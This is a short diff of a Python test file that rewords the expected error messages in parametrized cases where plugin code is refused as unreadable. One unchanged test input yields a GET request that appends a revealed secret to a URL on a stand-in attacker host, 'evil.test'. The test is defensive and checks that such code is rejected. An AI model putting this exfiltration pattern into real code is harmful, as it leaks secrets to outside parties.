@@ -262,8 +262,8 @@ def test_two_distributions_with_one_name_are_both_refused(cli: Program, site: Si
     [
         ("raise KeyError(access.secret.reveal())", "unreadable", "its code raised KeyError"),
         ("raise SystemExit(3)", "unreadable", "its code raised SystemExit"),
-        ("return 3", "unreadable", "it returns what is no verdict"),
-        ("yield 3", "unreadable", "it yields what is no request"),
+        ("return 3", "unreadable", "it returns something that is not a verdict"),
+        ("yield 3", "unreadable", "it yields something that is not a request"),
         (
             "yield Request('GET', 'https://evil.test/' + access.secret.reveal())",
             "unreadable",
